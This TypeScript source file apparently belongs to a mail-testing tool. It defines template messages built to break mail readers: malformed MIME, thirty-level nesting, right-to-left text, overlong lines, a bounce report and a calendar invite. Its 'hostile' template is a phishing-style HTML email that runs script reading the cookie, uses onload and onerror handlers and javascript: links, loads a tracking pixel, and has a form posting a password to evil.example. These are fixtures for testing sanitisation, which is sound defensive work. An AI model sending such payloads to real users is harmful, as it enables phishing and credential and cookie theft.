import type { Key } from './i18n/en';

// Whole messages to begin with in the composer: those that break programs which read mail.

/** Template is a message of a kind, as RFC 5322 writes it, for now. */
export interface Template {
  name: Key;
  make: (now: Date) => string;
}

/** head writes the fields that every message has. */
function head(subject: string, now: Date, more: string[] = []): string {
  return ['From: Shop <app@shop.example>', 'To: Anna Berg <anna@customers.example>', `Subject: ${subject}`, `Date: ${now.toUTCString().replace('GMT', '+0000')}`, `Message-ID: <${now.getTime()}@shop.example>`, 'MIME-Version: 1.0', ...more].join('\n');
}

const HOSTILE = `<!doctype html><html lang="en"><head><title>Your account</title>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/css.png) }</style>
<script>top.location = "https://evil.example/"; alert(document.cookie)</script></head>
<body onload="alert('onload')">
<h1>Your account will be closed</h1>
<p><img src="https://tracker.example/open.gif?u=anna" width="1" height="1" onerror="alert('onerror')"></p>
<p><a href="javascript:alert('link')">Confirm now</a> or <a href="https://evil.example/login">https://bank.example/login</a></p>
<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert('focus')"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<svg><script>alert('svg')</script></svg>
</body></html>`;

const EVENT = `BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//mailsink//composer//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:meeting-1@shop.example
DTSTAMP:20261122T090000Z
DTSTART:20261201T130000Z
DTEND:20261201T140000Z
SUMMARY:Review of the new shop
LOCATION:Room 3
ORGANIZER:mailto:app@shop.example
ATTENDEE;RSVP=TRUE:mailto:anna@customers.example
END:VEVENT
END:VCALENDAR`;

/** TEMPLATES are the messages to begin with. */
export const TEMPLATES: Template[] = [
  {
    name: 'template.hostile',
    make: (now) => `${head('Your account will be closed', now, ['Content-Type: text/html; charset=utf-8'])}\n\n${HOSTILE}\n`,
  },
  {
    name: 'template.broken',
    make: (now) =>
      `${head('=?utf-8?B?QnJva2Vu?= =?utf-8?Q?_MIME=', now, ['Content-Type: multipart/mixed; boundary="never"', 'Content-Transfer-Encoding: 9bit', 'no colon in this line', 'Content-Type: text/plain'])}\n\n--other\nContent-Type: text/html; charset=no-such-charset\nContent-Transfer-Encoding: base64\n\n!!! this is not base64 !!!\n--other\nContent-Type: image/png; name*=utf-8''%E2%82%ZZ.png\n\nnothing ends here\n`,
  },
  {
    name: 'template.nested',
    make: (now) => {
      const depth = 30;
      const open = Array.from({ length: depth }, (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"\n\n--b${at}\n`).join('');
      const close = Array.from({ length: depth }, (_, at) => `--b${depth - 1 - at}--\n`).join('');
      return `${head('Thirty parts deep', now)}\n${open}Content-Type: text/plain; charset=utf-8\n\nThe bottom.\n${close}`;
    },
  },
  {
    name: 'template.rtl',
    make: (now) =>
      `${head('=?utf-8?B?2KrZhSDYtNit2YYg2LfZhNio2YM=?=', now, ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit'])}\n\n<html lang="ar" dir="rtl"><body><h1>تم شحن طلبك</h1><p>مرحبا آنا، طردك في الطريق إليك. الرمز: <bdi>482913</bdi></p></body></html>\n`,
  },
  {
    name: 'template.long',
    make: (now) => `${head(`${'Donaudampfschifffahrtsgesellschaft'.repeat(12)} ${'and so on '.repeat(60)}`, now, ['Content-Type: text/plain; charset=utf-8'])}\n\n${'x'.repeat(5000)}\n${'https://shop.example/' + 'path/'.repeat(300)}\n`,
  },
  {
    name: 'template.bounce',
    make: (now) =>
      `${head('Undelivered Mail Returned to Sender', now, ['Auto-Submitted: auto-replied', 'Content-Type: multipart/report; report-type=delivery-status; boundary="r"']).replace('Shop <app@shop.example>', 'MAILER-DAEMON@mail.shop.example')}\n\n--r\nContent-Type: text/plain; charset=us-ascii\n\nThe message could not be delivered.\n--r\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mail.shop.example\n\nFinal-Recipient: rfc822; nobody@customers.example\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 5.1.1 no such user\n--r\nContent-Type: message/rfc822\n\nFrom: app@shop.example\nTo: nobody@customers.example\nSubject: Your order\n\nHello.\n--r--\n`,
  },
  {
    name: 'template.invitation',
    make: (now) =>
      `${head('Review of the new shop', now, ['Content-Type: multipart/alternative; boundary="c"'])}\n\n--c\nContent-Type: text/plain; charset=utf-8\n\nYou are invited.\n--c\nContent-Type: text/calendar; charset=utf-8; method=REQUEST\n\n${EVENT}\n--c--\n`,
  },
];
